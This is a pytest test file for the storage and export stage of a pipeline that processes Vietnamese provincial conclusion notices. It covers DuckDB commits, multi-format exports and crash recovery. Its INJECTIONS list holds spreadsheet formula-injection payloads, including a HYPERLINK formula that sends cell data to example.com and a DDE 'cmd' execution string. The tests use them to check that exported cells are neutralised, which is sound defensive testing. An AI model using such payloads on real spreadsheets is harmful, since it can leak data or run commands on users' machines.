"""Tests of the store stage: DuckDB commits per document, exports in the DESIGN.md contract."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import textwrap
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from ketluan import store as store_module
from ketluan import writers
from ketluan.records import (
    DOCUMENT_COLUMNS,
    ITEM_COLUMNS,
    SECTION_COLUMNS,
    Document,
    Fields,
    Item,
    Section,
)
from ketluan.store import Store, StoreError, load
from ketluan.writers import sanitize_cell, unsanitize_cell
from tools.paths import SHARED_OR_DEFAULT

DESIGN = SHARED_OR_DEFAULT / "DESIGN.md"
ISSUER = "ỦY BAN NHÂN DÂN TỈNH QUẢNG NGÃI"
LIMITATION = "Tiến độ giải ngân vốn đầu tư công còn chậm, một số dự án chưa hoàn thành thủ tục đầu tư"
TASK = "Sở Kế hoạch và Đầu tư chủ trì, phối hợp Sở Tài chính rà soát, điều chuyển vốn trước ngày 30/9/2024"
RECIPIENTS = "TT Tỉnh ủy; TT HĐND tỉnh; CT, các PCT UBND tỉnh; Lưu: VT, KTTH"
TABLES = {"documents": DOCUMENT_COLUMNS, "sections": SECTION_COLUMNS, "items": ITEM_COLUMNS}


def make_doc(
    source_path: str,
    content: str = "giao ban tháng 8/2024",
    texts: tuple[str, ...] = (LIMITATION, TASK),
    **fields: object,
) -> Document:
    """A hand-built conclusion: one section per category, one item per text."""
    sha = hashlib.sha256(content.encode("utf-8")).hexdigest()
    base = {
        "issuer": ISSUER,
        "doc_number": "125/TB-UBND",
        "doc_type": "Thông báo kết luận",
        "title": "Kết luận của Chủ tịch UBND tỉnh tại cuộc họp giao ban tháng 8/2024",
        "place": "Quảng Ngãi",
        "issue_date": "2024-08-20",
        "period_kind": "month",
        "period_start": "2024-08-01",
        "period_end": "2024-08-31",
        "period_label": "tháng 8/2024",
        "signer_title": "KT. CHỦ TỊCH / PHÓ CHỦ TỊCH",
        "signer_name": "Trần Phước Hiền",
        "recipients": RECIPIENTS,
        "is_conclusion": True,
    }
    base.update(fields)
    sections = [
        Section(
            "s1", seq=1, level=1, numbering="I.", heading="Những hạn chế, tồn tại", category="limitation"
        ),
        Section(
            "s2", seq=2, level=1, numbering="II.", heading="Nhiệm vụ thời gian tới", category="task", page=2
        ),
    ]
    items = [
        Item(f"i{n}", section_id="s1" if n == 1 else "s2", seq=n,
             category="limitation" if n == 1 else "task", text=t, actors="Sở Tài chính",
             deadline="2024-09-30" if n > 1 else "", page=1 + (n > 1), confidence=0.875)
        for n, t in enumerate(texts, 1)
    ]  # fmt: skip
    return Document(
        doc_id=sha[:16],
        source_path=source_path,
        sha256=sha,
        input_kind="text_pdf",
        pages=3,
        fields=Fields(**base),  # type: ignore[arg-type]
        sections=sections,
        items=items,
    )


def failed_doc(source_path: str) -> Document:
    """A document that could not be read: empty fields, no rows."""
    sha = hashlib.sha256(source_path.encode("utf-8")).hexdigest()
    doc = Document(doc_id=sha[:16], source_path=source_path, sha256=sha, input_kind="text_pdf")
    doc.fail("encrypted_pdf", "the PDF is password-protected; remove the password and run again")
    return doc


@pytest.fixture
def out(tmp_path: Path) -> Path:
    return tmp_path / "out"


def read_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)


def test_store_columns_match_design() -> None:
    if not DESIGN.exists():
        pytest.skip(f"{DESIGN} is absent")
    text = DESIGN.read_text(encoding="utf-8")
    contract = text.split("## Output contract", 1)[1].split("\n## ", 1)[0]
    for table, columns in TABLES.items():
        found = re.search(rf"`DIR/{table}\.csv`[^`]*`([^`]+)`", contract)
        assert found, table
        design_columns = [c.strip() for c in found.group(1).split(",")]
        # columns DESIGN.md lists as "being added": "`documents.csv` gains `a, b` after `c`"
        for added in re.finditer(rf"`{table}\.csv`\s+gains\s+`([^`]+)`\s+after\s+`([^`]+)`", contract):
            if (
                added.group(2) in design_columns
                and added.group(1).split(",")[0].strip() not in design_columns
            ):
                at = design_columns.index(added.group(2)) + 1
                design_columns[at:at] = [c.strip() for c in added.group(1).split(",")]
        assert design_columns == columns


@pytest.mark.parametrize("table", list(TABLES))
def test_store_csv_has_bom_and_contract_header(out: Path, table: str) -> None:
    with Store(out) as store:
        store.commit(make_doc("2024/tb-125-giao-ban-thang-8.pdf"))
        store.export()
    raw = (out / f"{table}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header = raw[3:].split(b"\n", 1)[0].decode("utf-8")
    assert header.split(",") == TABLES[table]


def _read_back(out: Path, fmt: str) -> dict[str, pd.DataFrame]:
    if fmt == "csv":
        return {t: read_csv(out / f"{t}.csv") for t in TABLES}
    if fmt == "parquet":
        return {t: pd.read_parquet(out / f"{t}.parquet") for t in TABLES}
    if fmt == "jsonl":
        return {t: pd.read_json(out / f"{t}.jsonl", lines=True, dtype=False) for t in TABLES}
    wb = load_workbook(out / "ketluan.xlsx")
    frames = {}
    for t in TABLES:
        rows = list(wb[t].iter_rows(values_only=True))
        frames[t] = pd.DataFrame(rows[1:], columns=rows[0])
    return frames


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl", "xlsx"])
def test_store_vietnamese_survives_round_trip(out: Path, fmt: str) -> None:
    nfd_text = unicodedata.normalize("NFD", "Công tác khám chữa bệnh được duy trì ổn định")
    with Store(out) as store:
        store.commit(make_doc("Thông báo kết luận tháng 8.pdf", texts=(LIMITATION, nfd_text)))
        store.export()
    tables = _read_back(out, fmt)
    doc = tables["documents"].iloc[0]
    assert list(tables["documents"].columns) == DOCUMENT_COLUMNS
    assert doc["issuer"] == ISSUER
    assert doc["source_path"] == "Thông báo kết luận tháng 8.pdf"
    assert doc["recipients"] == RECIPIENTS
    texts = set(tables["items"]["text"])
    assert texts == {LIMITATION, nfd_text}  # raw values: NFD stays NFD, the store never normalises
    assert "Những hạn chế, tồn tại" in set(tables["sections"]["heading"])


def test_store_jsonl_is_not_ascii_escaped(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store.export()
    line = (out / "documents.jsonl").read_text(encoding="utf-8").splitlines()[0]
    assert ISSUER in line and "\\u" not in line and "125/TB-UBND" in line
    assert json.loads(line)["ocr_confidence"] is None


def test_store_second_run_does_not_duplicate(out: Path) -> None:
    for _ in range(2):
        with Store(out) as store:
            store.commit(make_doc("a.pdf", content="tháng 7"))
            store.commit(make_doc("b.pdf", content="tháng 8"))
            store.commit(failed_doc("c.pdf"))
            store.export()
    tables = load(out)
    assert len(tables["documents"]) == 3
    assert len(tables["items"]) == 4
    assert len(tables["sections"]) == 4
    assert len(read_csv(out / "items.csv")) == 4


def test_store_changed_file_replaces_its_rows(out: Path) -> None:
    old = make_doc("thang-8.pdf", content="bản cũ", texts=("Còn chậm giải ngân",))
    new = make_doc("thang-8.pdf", content="bản mới", texts=(LIMITATION, TASK))
    with Store(out) as store:
        store.commit(old)
        store.commit(new)
        tables = store.tables()
    assert tables["documents"]["doc_id"].tolist() == [new.doc_id]
    assert set(tables["items"]["doc_id"]) == {new.doc_id}
    assert set(tables["items"]["text"]) == {LIMITATION, TASK}
    assert set(tables["sections"]["doc_id"]) == {new.doc_id}


def test_store_same_content_under_two_names_stores_items_once(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("2024/thang-8.pdf"))
        store.commit(make_doc("ban-sao/thang-8 (1).pdf"))
        tables = store.tables()
        assert store.has_content(make_doc("x").sha256) == "2024/thang-8.pdf"
        # one copy changes: the other path still owns the shared doc_id's rows
        store.commit(make_doc("ban-sao/thang-8 (1).pdf", content="đã sửa", texts=(TASK,)))
        after = store.tables()
    assert len(tables["documents"]) == 2
    assert tables["documents"]["doc_id"].nunique() == 1
    assert len(tables["items"]) == 2
    assert len(tables["sections"]) == 2
    assert len(after["documents"]) == 2
    assert len(after["items"]) == 3  # 2 of the unchanged copy + 1 of the edited one


def test_store_failed_duplicate_keeps_good_rows(out: Path) -> None:
    good = make_doc("a.pdf")
    bad = make_doc("b.pdf")
    bad.fail("timeout", "processing took longer than the time limit")
    with Store(out) as store:
        store.commit(good)
        store.commit(bad)
        tables = store.tables()
    assert len(tables["documents"]) == 2
    assert len(tables["items"]) == 2


def test_store_failed_document_row_has_empty_fields(out: Path) -> None:
    with Store(out) as store:
        store.commit(failed_doc("mat-khau.pdf"))
        store.export()
    row = read_csv(out / "documents.csv").iloc[0]
    assert row["status"] == "error"
    assert row["error"].startswith("encrypted_pdf: ")
    for column in ("issuer", "doc_number", "issue_date", "ocr_confidence", "recipients"):
        assert row[column] == ""
    assert row["is_conclusion"] == "false"
    assert row["pages"] == "0"
    assert read_csv(out / "items.csv").empty


def test_store_csv_column_types(out: Path) -> None:
    doc = make_doc("a.pdf")
    doc.ocr_pages, doc.ocr_confidence = 2, 87.5
    with Store(out) as store:
        store.commit(doc)
        store.export()
    row = read_csv(out / "documents.csv").iloc[0]
    assert (row["pages"], row["ocr_pages"], row["ocr_confidence"], row["is_conclusion"]) == (
        "3", "2", "87.5", "true",
    )  # fmt: skip
    items = read_csv(out / "items.csv")
    assert items["confidence"].tolist() == ["0.875", "0.875"]
    assert items["deadline"].tolist() == ["", "2024-09-30"]
    assert items["seq"].tolist() == ["1", "2"]


# fmt: off
INJECTIONS = [
    '=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")',
    "+SUM(A1)",
    "@cmd",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
HARMLESS = ["- Sở Tài chính;", "- 03 đơn tồn đọng", "-5% so với cùng kỳ", "Tây Ninh", ""]
# fmt: on


@pytest.mark.parametrize("value", INJECTIONS)
def test_store_sanitize_cell_guards_formulas(value: str) -> None:
    assert sanitize_cell(value) == "'" + value
    assert unsanitize_cell(sanitize_cell(value)) == value


@pytest.mark.parametrize("value", [*HARMLESS, "'Tây Ninh", "'=1+1", 7, 0.5, True])
def test_store_sanitize_cell_keeps_text(value: object) -> None:
    guarded = sanitize_cell(value)
    if value != "'=1+1":
        assert guarded == value
    assert unsanitize_cell(guarded) == value


def _injected_doc() -> Document:
    return make_doc("a.pdf", texts=(*INJECTIONS, *HARMLESS[:3]), recipients="- Sở Tài chính;")


def test_store_formula_injection_neutralised_in_csv(out: Path) -> None:
    with Store(out) as store:
        store.commit(_injected_doc())
        store.export()
    texts = read_csv(out / "items.csv")["text"].tolist()
    assert texts[: len(INJECTIONS)] == ["'" + v for v in INJECTIONS]
    assert texts[len(INJECTIONS) :] == HARMLESS[:3]
    assert read_csv(out / "documents.csv").loc[0, "recipients"] == "- Sở Tài chính;"
    # load() undoes the guard; the database and Parquet keep the raw values
    assert load(out)["items"]["text"].tolist() == [*INJECTIONS, *HARMLESS[:3]]
    (out / "ketluan.duckdb").unlink()
    assert load(out)["items"]["text"].tolist() == [*INJECTIONS, *HARMLESS[:3]]
    assert pd.read_parquet(out / "items.parquet")["text"].tolist() == [*INJECTIONS, *HARMLESS[:3]]


def test_store_formula_injection_neutralised_in_xlsx(out: Path) -> None:
    with Store(out) as store:
        store.commit(_injected_doc())
        store.export()
    ws = load_workbook(out / "ketluan.xlsx")["items"]
    column = ITEM_COLUMNS.index("text") + 1
    cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
    assert [c.value for c in cells] == [*INJECTIONS, *HARMLESS[:3]]
    assert all(c.data_type == "s" for c in cells)


def test_store_xlsx_sheet_layout(out: Path) -> None:
    long_text = "Tiếp tục rà soát " * 20
    with Store(out) as store:
        store.commit(make_doc("a.pdf", texts=(long_text, "Có ký tự\x0cngắt trang")))
        store.export()
    wb = load_workbook(out / "ketluan.xlsx")
    assert wb.sheetnames == ["documents", "sections", "items"]
    ws = wb["items"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:Q{ws.max_row}"
    assert all(c.font.bold for c in ws[1])
    widths = [ws.column_dimensions[c].width for c in "ABCDEFGHIJKLMNOP"]
    assert max(widths) == 60 and min(widths) >= 8
    assert ws.cell(row=3, column=7).value == "Có ký tựngắt trang"


def test_store_export_is_atomic_and_leaves_no_temp_files(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        (out / ".items.csv.99999.tmp").write_text("half-written by a killed run")
        written = store.export()
        assert not list(out.glob(".*.tmp"))
        assert set(written) == {f"{t}.{e}" for t in TABLES for e in ("csv", "parquet", "jsonl")} | {
            "ketluan.xlsx", "ketluan.duckdb",
        }  # fmt: skip
        before = (out / "documents.jsonl").read_bytes()

        def crash(*args: object) -> None:
            raise KeyboardInterrupt  # a run stopped mid-export

        store.commit(make_doc("b.pdf", content="tháng 9"))
        monkeypatch.setattr(writers, "write_jsonl", crash)
        with pytest.raises(KeyboardInterrupt):
            store.export()
    assert (out / "documents.jsonl").read_bytes() == before
    assert not list(out.glob(".*.tmp"))


def test_store_load_returns_contract_columns_and_types(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        store.commit(failed_doc("b.pdf"))
        store.export()
    from_db = load(out)
    (out / "ketluan.duckdb").unlink()
    from_csv = load(out)
    for tables in (from_db, from_csv):
        for table, columns in TABLES.items():
            assert list(tables[table].columns) == columns
        docs = tables["documents"]
        assert docs["pages"].dtype == "int64"
        assert docs["is_conclusion"].tolist() == [True, False]
        assert docs["ocr_confidence"].isna().all()
        assert docs.loc[1, "issuer"] == ""
        assert tables["items"]["confidence"].dtype == "float64"
        assert tables["sections"]["level"].dtype == "int64"
    pd.testing.assert_frame_equal(from_db["items"], from_csv["items"], check_dtype=False)


def test_store_load_without_outputs_raises(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        load(tmp_path)


def test_store_known_and_fetch(out: Path) -> None:
    doc = make_doc("2024/thang-8.pdf")
    with Store(out) as store:
        assert store.known() == {}
        store.commit(doc)
        store.commit(failed_doc("hong.pdf"))
        assert store.known() == {"2024/thang-8.pdf": doc.sha256, "hong.pdf": failed_doc("hong.pdf").sha256}
        assert store.has_content("0" * 64) == ""
        copy = store.fetch("2024/thang-8.pdf")
        assert store.fetch("khong-co.pdf") is None
    assert copy is not None
    assert copy.fields == doc.fields
    assert copy.items == doc.items and copy.sections == doc.sections
    assert copy.document_row() == doc.document_row()


def _run_python(code: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)], capture_output=True, text=True, timeout=120
    )


def test_store_survives_a_killed_run(out: Path) -> None:
    code = f"""
        import os, sys
        sys.path.insert(0, {str(Path(__file__).parent)!r})
        from test_store import make_doc
        from ketluan.store import Store
        store = Store({str(out)!r})
        for n in range(3):
            store.commit(make_doc(f"thang-{{n}}.pdf", content=f"tháng {{n}}"))
        os._exit(0)  # like kill -9: no close(), no checkpoint
    """
    result = _run_python(code)
    assert result.returncode == 0, result.stderr
    with Store(out) as store:
        assert sorted(store.known()) == ["thang-0.pdf", "thang-1.pdf", "thang-2.pdf"]
        assert len(store.tables()["items"]) == 6


def test_store_in_use_by_another_process_is_a_clear_error(out: Path) -> None:
    with Store(out):
        result = _run_python(
            f"""
            from ketluan.store import Store, StoreError
            try:
                Store({str(out)!r})
            except StoreError as e:
                print("StoreError:", e)
            """
        )
    assert "StoreError:" in result.stdout and "in use by another process" in result.stdout, result.stderr


def test_store_rejects_another_schema_version(out: Path) -> None:
    with Store(out) as store:
        store._con.execute("UPDATE meta SET value = '0' WHERE key = 'schema_version'")
    with pytest.raises(StoreError, match="another version of ketluan"):
        Store(out)
    assert os.path.exists(out / "ketluan.duckdb")


def test_store_export_can_skip_the_workbook(out: Path) -> None:
    with Store(out) as store:
        store.commit(make_doc("a.pdf"))
        written = store.export(xlsx=False)
    assert "ketluan.xlsx" not in written and not (out / "ketluan.xlsx").exists()
    assert (out / "items.parquet").exists()


class _InterruptedConnection:
    """A DuckDB connection that fails like DuckDB does when Ctrl-C arrives during an INSERT."""

    def __init__(self, con: object, error: Exception) -> None:
        self._con, self._error = con, error

    def execute(self, query: str, *args: object) -> object:
        if query.startswith("INSERT INTO documents"):
            raise self._error
        return self._con.execute(query, *args)  # type: ignore[attr-defined]

    def __getattr__(self, name: str) -> object:
        return getattr(self._con, name)


@pytest.mark.parametrize(
    "error", [RuntimeError("Query interrupted"), store_module.duckdb.InterruptException("INTERRUPT Error")]
)
def test_store_ctrl_c_during_a_commit_stops_the_run_and_keeps_no_half_row(
    out: Path, error: Exception
) -> None:
    with Store(out) as store:
        store.commit(make_doc("thang-7.pdf", content="tháng 7"))
        real = store._con
        store._con = _InterruptedConnection(real, error)  # type: ignore[assignment]
        with pytest.raises(KeyboardInterrupt):
            store.commit(make_doc("thang-8.pdf", content="tháng 8"))
        store._con = real
        tables = store.tables()
    assert tables["documents"]["source_path"].tolist() == ["thang-7.pdf"]  # rolled back, no error row
    assert len(tables["items"]) == 2


def test_store_other_database_errors_are_not_taken_for_ctrl_c(out: Path) -> None:
    with Store(out) as store:
        real = store._con
        store._con = _InterruptedConnection(real, RuntimeError("Conversion Error: ngày 31/02/2024"))  # type: ignore[assignment]
        with pytest.raises(RuntimeError, match="Conversion Error"):
            store.commit(make_doc("thang-8.pdf", content="tháng 8"))


class _AbortedAfterInterrupt(_InterruptedConnection):
    """Ctrl-C during the items INSERT; the clean-up of its Arrow view then fails too, as DuckDB
    refuses every statement of an aborted transaction."""

    def execute(self, query: str, *args: object) -> object:
        if query.startswith("INSERT INTO items"):
            raise self._error
        return self._con.execute(query, *args)  # type: ignore[attr-defined]

    def unregister(self, name: str) -> object:
        self._con.unregister(name)  # type: ignore[attr-defined]
        raise store_module.duckdb.TransactionException("Current transaction is aborted (please ROLLBACK)")


def test_store_ctrl_c_is_not_hidden_by_a_failing_clean_up(out: Path) -> None:
    with Store(out) as store:
        real = store._con
        store._con = _AbortedAfterInterrupt(real, RuntimeError("Query interrupted"))  # type: ignore[assignment]
        with pytest.raises(KeyboardInterrupt):
            store.commit(make_doc("thang-9.pdf", content="tháng 9"))
        store._con = real
        store.commit(make_doc("thang-10.pdf", content="tháng 10"))  # the connection is usable again
        tables = store.tables()
    assert tables["documents"]["source_path"].tolist() == ["thang-10.pdf"]


def test_store_known_leaves_out_the_error_rows_to_retry(out: Path) -> None:
    stuck = make_doc("thang-11.pdf", content="tháng 11")
    stuck.fail("internal", "the result could not be stored (TransactionException: aborted)")
    with Store(out) as store:
        store.commit(make_doc("thang-10.pdf", content="tháng 10"))
        store.commit(stuck)
        store.commit(failed_doc("mat-khau.pdf"))
        assert set(store.known()) == {"thang-10.pdf", "thang-11.pdf", "mat-khau.pdf"}
        assert set(store.known(retry=("internal",))) == {"thang-10.pdf", "mat-khau.pdf"}
